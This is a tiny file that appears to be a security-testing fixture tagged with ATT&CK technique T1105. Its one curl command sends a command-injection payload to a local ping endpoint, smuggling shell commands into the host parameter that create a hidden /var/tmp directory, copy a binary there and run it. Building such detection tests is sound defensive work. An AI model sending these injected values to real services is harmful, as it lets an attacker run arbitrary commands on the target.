# workload: python
# technique: T1105
# finds: /var/tmp/.x/tool
curl -s "http://127.0.0.1:18081/ping?host=x;mkdir+-p+/var/tmp/.x;cp+/usr/bin/env+/var/tmp/.x/tool;/var/tmp/.x/tool"
